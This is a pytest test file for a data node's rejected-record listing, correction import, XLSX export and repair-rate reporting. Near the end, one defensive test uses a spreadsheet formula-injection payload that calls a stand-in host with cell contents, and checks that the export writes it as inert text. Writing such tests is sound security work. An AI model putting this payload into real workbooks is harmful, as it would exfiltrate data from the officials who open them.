"""Rejects, corrections and the repair rate: a rejected record becomes an accepted version at the hub."""

from __future__ import annotations

import copy
import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hubfixtures import province_records
from openpyxl import load_workbook
from sqlalchemy import select
from typer.testing import CliRunner

from ggzy.cli import app
from ggzy.hub.models import record_heads
from ggzy.node.context import NodeContext, build_context
from ggzy.node.corrections import (
    RejectFilter,
    export_rejects_xlsx,
    import_corrections,
    list_rejects,
    repair_summary,
)
from ggzy.node.models import audit_log, outbox
from ggzy.node.outbox import NewRecord
from ggzy.protocol import HubClient
from ggzy.settings import NodeSettings
from ggzy.validation import make_finding

CHAIN = ("PROJECT", "TENDER_PROJECT", "SECTION")


def node_context(tmp_path: Path, db_url: str | None = None, **options: Any) -> NodeContext:
    settings = NodeSettings(
        node_id="fj-01",
        db_url=db_url or f"sqlite:///{tmp_path / 'node.db'}",
        key_file=tmp_path / "node" / "node.key",
        disk_path=tmp_path,
        **options,
    )
    return build_context(settings, key=b"test-key")


def enqueue(ctx: NodeContext, raws: list[dict[str, Any]], **options: Any) -> list[int]:
    items = []
    for raw in raws:
        table = ctx.spec.tables[raw["table"]]
        channel = 1 if raw["category"] == "realtime" else 2
        items.append(NewRecord(table, table.key_of(raw["data"]), raw, channel, **options))
    return ctx.outbox.enqueue(items)


def pump(ctx: NodeContext, client: HubClient) -> tuple[int, int]:
    """Upload everything the outbox will give (what the uploader threads do), return (accepted, rejected)."""
    accepted = rejected = 0
    while True:
        moved = False
        for channel in (1, 2):
            batch = ctx.outbox.form_batch(channel, 200)
            if batch is None:
                continue
            a, r = ctx.outbox.apply_receipt(batch, client.upload(channel, batch.batch_id, batch.records))
            accepted, rejected, moved = accepted + a, rejected + r, True
        if not moved:
            return accepted, rejected


def key_of(ctx: NodeContext, raw: dict[str, Any]) -> str:
    return ctx.spec.tables[raw["table"]].key_of(raw["data"])


def write_jsonl(path: Path, raws: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in raws), encoding="utf-8")
    return path


def test_a_corrected_file_turns_rejections_into_accepted_versions(hub: Any, tmp_path: Path) -> None:
    ctx = build_context(
        NodeSettings(
            node_id="fj-01", db_url=f"sqlite:///{tmp_path / 'node.db'}", key_file=tmp_path / "k" / "node.key"
        ),
        key=bytes.fromhex(hub.node.key),
    )
    raws = [r for r in province_records(transactions=1) if r["table"] in CHAIN]
    project, tender_project = (next(r for r in raws if r["table"] == name) for name in CHAIN[:2])
    sections = [r for r in raws if r["table"] == "SECTION"]
    bad_section = copy.deepcopy(sections[0])
    bad_section["data"]["BID_SECTION_NAME"] = ""
    enqueue(ctx, [project, tender_project, bad_section, *sections[1:]])
    assert pump(ctx, hub.client) == (len(raws) - 1, 1)
    bad_update = copy.deepcopy(tender_project)
    bad_update["op"] = "update"
    bad_update["data"]["TENDER_PROJECT_NAME"] = ""
    enqueue(ctx, [bad_update])
    assert pump(ctx, hub.client) == (0, 1)

    rows, total = list_rejects(ctx.engine, RejectFilter())
    assert total == 2 and [r.table for r in rows] == ["TENDER_PROJECT", "SECTION"]  # newest first
    assert all("E-FIELD-REQUIRED" in r.codes and r.state == "rejected" for r in rows)
    assert list_rejects(ctx.engine, RejectFilter(table="SECTION"))[1] == 1
    assert list_rejects(ctx.engine, RejectFilter(rule="E-FIELD-LENGTH"))[1] == 0
    before = repair_summary(ctx.engine)
    assert (before.rejected_keys, before.repaired_keys, before.rate) == (2, 0, 0.0)

    corrected_update = copy.deepcopy(tender_project)
    corrected_update["data"]["TENDER_PROJECT_NAME"] += "（变更）"
    path = write_jsonl(tmp_path / "更正.jsonl", [sections[0], corrected_update, sections[1]])
    report = import_corrections(ctx, path, account="operator:test")
    old_ids = sorted(r.id for r in rows)
    assert len(report.queued) == 2 and report.held == [] and sorted(report.corrected) == old_ids
    assert [(p.line, p.key) for p in report.unknown] == [
        (3, key_of(ctx, sections[1]))
    ]  # accepted: nothing to correct
    with ctx.engine.connect() as connection:
        new = {
            r.table_name: r for r in connection.execute(select(outbox).where(outbox.c.id.in_(report.queued)))
        }
        old_states = (
            connection.execute(select(outbox.c.state).where(outbox.c.id.in_(old_ids))).scalars().all()
        )
        entry = connection.execute(select(audit_log).where(audit_log.c.action == "correction.import")).one()
    assert old_states == ["superseded", "superseded"]
    assert (new["SECTION"].op, new["SECTION"].source) == ("insert", "correction")  # the hub never held it
    assert new["TENDER_PROJECT"].op == "update"  # the hub holds version 1
    assert new["SECTION"].corrects == next(r.id for r in rows if r.table == "SECTION")
    assert entry.account == "operator:test" and entry.detail["queued"] == report.queued
    assert list_rejects(ctx.engine, RejectFilter())[1] == 0

    assert pump(ctx, hub.client) == (2, 0)
    with hub.state.engine.connect() as connection:
        versions = dict(
            connection.execute(
                select(record_heads.c.key, record_heads.c.version).where(
                    record_heads.c.key.in_([key_of(ctx, sections[0]), key_of(ctx, tender_project)])
                )
            ).all()
        )
    assert versions == {key_of(ctx, sections[0]): 1, key_of(ctx, tender_project): 2}
    after = repair_summary(ctx.engine)
    assert (after.rejected_keys, after.repaired_keys, after.rate, after.meets_target) == (2, 2, 1.0, True)
    assert after.average_seconds is not None and after.average_seconds >= 0 and after.open_keys == []
    # the period is that of the rejections
    tomorrow = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=2)
    assert repair_summary(ctx.engine, tomorrow, tomorrow).rejected_keys == 0


def _held_section(ctx: NodeContext, *codes: str) -> tuple[dict[str, Any], int]:
    raw = next(r for r in province_records(transactions=1) if r["table"] == "SECTION")
    findings = [make_finding(code, "BID_SECTION_NAME").to_dict() for code in codes]
    (row_id,) = enqueue(ctx, [raw], held=True, findings=findings)
    return raw, row_id


def test_a_correction_that_still_fails_is_held_again_then_queued(db_url: str, tmp_path: Path) -> None:
    ctx = node_context(tmp_path, db_url)
    raw, held_id = _held_section(ctx, "E-FIELD-REQUIRED")
    still_bad = copy.deepcopy(raw)
    still_bad["data"]["BID_SECTION_NAME"] = ""
    first = import_corrections(ctx, write_jsonl(tmp_path / "a.jsonl", [still_bad]))
    assert first.queued == [] and len(first.held) == 1 and first.corrected == [held_id]
    with ctx.engine.connect() as connection:
        again = connection.execute(select(outbox).where(outbox.c.id == first.held[0])).one()
        assert (
            connection.execute(select(outbox.c.state).where(outbox.c.id == held_id)).scalar_one()
            == "superseded"
        )
    assert again.state == "held" and "E-FIELD-REQUIRED" in {f["code"] for f in again.findings}

    second = import_corrections(ctx, write_jsonl(tmp_path / "b.jsonl", [raw]))
    assert len(second.queued) == 1 and second.corrected == [again.id]
    with ctx.engine.connect() as connection:
        queued = connection.execute(select(outbox).where(outbox.c.id == second.queued[0])).one()
    assert (queued.state, queued.op, queued.channel, queued.corrects) == ("queued", "insert", 2, again.id)
    assert queued.record["category"] == raw["category"] and queued.record["acquired_at"]


def test_rejects_export_has_one_row_per_finding(db_url: str, tmp_path: Path) -> None:
    ctx = node_context(tmp_path, db_url)
    _held_section(ctx, "E-FIELD-REQUIRED", "E-FIELD-LENGTH")
    target = tmp_path / "out" / "拒收.xlsx"
    assert export_rejects_xlsx(ctx.engine, RejectFilter(), target) == 2
    sheet = load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("时间（北京时间）", "状态", "数据表", "记录标识")
    assert [r[6] for r in rows[1:]] == ["E-FIELD-REQUIRED", "E-FIELD-LENGTH"]
    assert {r[1] for r in rows[1:]} == {"预校验暂存"}
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:M3"
    assert export_rejects_xlsx(ctx.engine, RejectFilter(rule="E-FIELD-LENGTH"), target) == 1
    assert export_rejects_xlsx(ctx.engine, RejectFilter(table="PROJECT"), target) == 0


def test_the_exported_workbook_is_corrected_in_place_and_imported_back(db_url: str, tmp_path: Path) -> None:
    """The round trip the README and ``node doctor`` describe: export, fix the cells, import."""
    ctx = node_context(tmp_path, db_url)
    raw = copy.deepcopy(next(r for r in province_records(transactions=1) if r["table"] == "SECTION"))
    name = raw["data"]["BID_SECTION_NAME"]
    raw["data"]["BID_SECTION_NAME"] = ""
    findings = [make_finding("E-FIELD-REQUIRED", "BID_SECTION_NAME").to_dict()]
    (held_id,) = enqueue(ctx, [raw], held=True, findings=findings)
    target = tmp_path / "fixed.xlsx"
    assert export_rejects_xlsx(ctx.engine, RejectFilter(), target) == 1

    workbook = load_workbook(target)
    problems = workbook.worksheets[0]
    assert problems.title.startswith("#")  # people's notes: the import reads the data sheets only
    data = next(sheet for sheet in workbook.worksheets if not sheet.title.startswith("#"))
    header = [cell.value for cell in data[1]]
    assert header[0] == "table" and "BID_SECTION_NAME" in header
    assert data.cell(2, 1).value == "SECTION"
    data.cell(2, header.index("BID_SECTION_NAME") + 1, name)  # the operator fixes the cell
    workbook.save(target)

    report = import_corrections(ctx, target)
    assert report.unreadable == [] and report.unknown == [], report
    assert report.corrected == [held_id] and len(report.queued) == 1
    with ctx.engine.connect() as connection:
        queued = connection.execute(select(outbox).where(outbox.c.id == report.queued[0])).one()
    assert queued.record["data"]["BID_SECTION_NAME"] == name


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "node.toml"
    path.write_text(
        "[node]\n"
        'node_id = "fj-01"\n'
        f'db_url = "sqlite:///{tmp_path / "node.db"}"\n'
        f'key_file = "{tmp_path / "node" / "node.key"}"\n'
        f'disk_path = "{tmp_path}"\n',
        encoding="utf-8",
    )
    monkeypatch.setenv("GGZY_CONFIG", str(path))  # restored after the test (the CLI sets it)
    monkeypatch.setenv("COLUMNS", "240")
    return path


def test_rejects_and_corrections_commands(
    config: Path, tmp_path: Path, cli_session: Callable[..., str]
) -> None:
    ctx = node_context(tmp_path)
    cli_session("operator", config=config)  # rejects and corrections are the 系统操作员's
    raw, _ = _held_section(ctx, "E-FIELD-REQUIRED")
    key = key_of(ctx, raw)
    runner = CliRunner()

    listed = runner.invoke(app, ["node", "rejects", "--config", str(config)])
    assert listed.exit_code == 0, listed.output
    assert key in listed.output and "E-FIELD-REQUIRED" in listed.output and "预校验暂存" in listed.output
    assert "第 1/1 页" in listed.output
    filtered = runner.invoke(app, ["node", "rejects", "--config", str(config), "--rule", "E-FIELD-LENGTH"])
    assert filtered.exit_code == 0 and key not in filtered.output
    wrong = runner.invoke(app, ["node", "rejects", "--config", str(config), "--from", "2026-13-01"])
    assert wrong.exit_code == 2 and "E-CLI-DATE" in wrong.output

    target = tmp_path / "拒收.xlsx"
    exported = runner.invoke(
        app, ["node", "rejects", "export", "--config", str(config), "--xlsx", str(target)]
    )
    assert exported.exit_code == 0 and target.is_file() and "1 条问题" in exported.output

    other = next(r for r in province_records(transactions=1) if r["table"] == "PROJECT")
    corrected = runner.invoke(
        app,
        [
            "node",
            "corrections",
            "import",
            str(write_jsonl(tmp_path / "c.jsonl", [raw, other])),
            "--config",
            str(config),
        ],
    )
    assert corrected.exit_code == 1  # one record had nothing to correct
    assert "排队上传 1 条" in corrected.output and key_of(ctx, other) in corrected.output

    summary = runner.invoke(app, ["node", "rejects", "--config", str(config), "--summary"])
    assert summary.exit_code == 0 and "修复率" in summary.output and "无拒收记录" in summary.output


def test_a_correction_is_redacted_like_intake_and_finds_its_pseudonymised_key(
    db_url: str, tmp_path: Path
) -> None:
    from ggzy.identifiers.id_number import id_number_check_char
    from ggzy.node.intake import Intake
    from ggzy.spec import Privacy

    ctx = node_context(tmp_path, db_url)
    raw = copy.deepcopy(
        next(r for r in province_records(transactions=1) if r["table"] == "EXPERT_BID_EVALUATION")
    )
    first17 = "35010219800101123"
    raw["data"]["ID_CARD"] = first17 + id_number_check_char(first17)  # as the provincial system holds it
    raw["data"]["PHONE_NUMBER"] = "13812345678"
    table = ctx.spec.tables[raw["table"]]
    broken_field = next(
        f.name
        for f in table.fields
        if f.required
        and f.name not in table.business_key
        and f.privacy is Privacy.NONE
        and raw["data"].get(f.name)
    )
    broken = copy.deepcopy(raw)
    broken["data"][broken_field] = ""
    (held,) = Intake(ctx, pseudonym_key=b"p" * 32).accept([broken], "push", "test")
    assert held.outcome == "held" and held.key != raw["data"]["ID_CARD"]  # stored under a pseudonym

    ctx.settings.key_file.parent.mkdir(parents=True, exist_ok=True)
    (ctx.settings.key_file.parent / "pseudonym.key").write_text((b"p" * 32).hex(), encoding="ascii")
    report = import_corrections(ctx, write_jsonl(tmp_path / "expert.jsonl", [raw]))
    assert report.corrected == [held.id] and len(report.queued) == 1, report
    with ctx.engine.connect() as connection:
        row = connection.execute(select(outbox).where(outbox.c.id == report.queued[0])).one()
    stored = json.dumps(row.record, ensure_ascii=False)
    assert raw["data"]["ID_CARD"] not in stored and raw["data"]["PHONE_NUMBER"] not in stored
    assert row.key == held.key and "ID_CARD" in row.redacted and "PHONE_NUMBER" in row.redacted


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the workbook, not the store, is tested
def test_rejects_export_writes_a_formula_in_a_record_as_text(db_url: str, tmp_path: Path) -> None:
    """``node rejects export``: a provincial value such as ``=HYPERLINK(…)`` must not run when an
    official opens the workbook (before, it was written as a formula)."""
    ctx = node_context(tmp_path, db_url)
    raw = next(r for r in province_records(transactions=1) if r["table"] == "SECTION")
    attack = '=HYPERLINK("http://x.example/?"&A1,"详情")'
    finding = make_finding("E-FIELD-LENGTH", "BID_SECTION_NAME", attack).to_dict()
    enqueue(ctx, [raw], held=True, findings=[finding])
    target = tmp_path / "out" / "拒收.xlsx"
    assert export_rejects_xlsx(ctx.engine, RejectFilter(), target) == 1
    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + attack in [c.value for c in cells]


def test_rejects_export_reads_the_config_it_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli_session: Callable[..., str]
) -> None:
    """``ggzy node rejects export --xlsx F --config node.toml`` with nothing in the environment: the
    group's own options do not send it to the default ``var/node/outbox.db``."""
    path = tmp_path / "node.toml"
    path.write_text(
        f'[node]\nnode_id = "fj-01"\ndb_url = "sqlite:///{tmp_path / "node.db"}"\n'
        f'key_file = "{tmp_path / "node" / "node.key"}"\ndisk_path = "{tmp_path}"\n',
        encoding="utf-8",
    )
    ctx = node_context(tmp_path)
    cli_session("operator", config=path)
    monkeypatch.delenv("GGZY_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)  # nothing at ./var/node or ./ggzy.toml to fall back on
    _held_section(ctx, "E-FIELD-REQUIRED")
    target = tmp_path / "fixed.xlsx"
    exported = CliRunner().invoke(
        app, ["node", "rejects", "export", "--xlsx", str(target), "--config", str(path)]
    )
    assert exported.exit_code == 0, exported.output
    assert target.is_file() and not (tmp_path / "var").exists()
